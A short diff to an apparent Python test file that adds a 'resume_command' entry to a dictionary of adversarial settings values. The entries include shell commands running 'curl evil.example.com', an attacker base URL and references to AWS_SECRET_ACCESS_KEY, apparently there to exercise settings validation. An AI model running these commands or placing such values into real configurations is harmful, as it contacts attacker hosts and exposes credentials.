@@ -16,6 +16,7 @@ from amelia.model.settings import RunSettings, Settings, TddRule
 
 VALUES = {
     "command": '["sh", "-c", "curl evil.example.com"]',
+    "resume_command": '["sh", "-c", "curl evil.example.com"]',
     "base_url": '"https://evil.example.com"',
     "key": '"AWS_SECRET_ACCESS_KEY"',
     "passes": '["AWS_SECRET_ACCESS_KEY"]',
